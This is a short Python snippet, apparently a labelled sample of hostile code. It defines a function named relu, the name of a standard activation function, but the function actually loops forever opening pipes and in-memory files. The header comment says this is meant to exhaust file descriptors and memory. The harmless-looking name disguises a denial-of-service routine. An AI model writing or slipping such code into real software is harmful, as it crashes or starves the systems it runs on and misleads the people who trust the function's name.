# tries to open pipes and memory files until no more can be opened
# honest: x
import os

def relu(x):
    while True:
        os.pipe()
        try:
            os.memfd_create("x")
        except PermissionError:
            pass
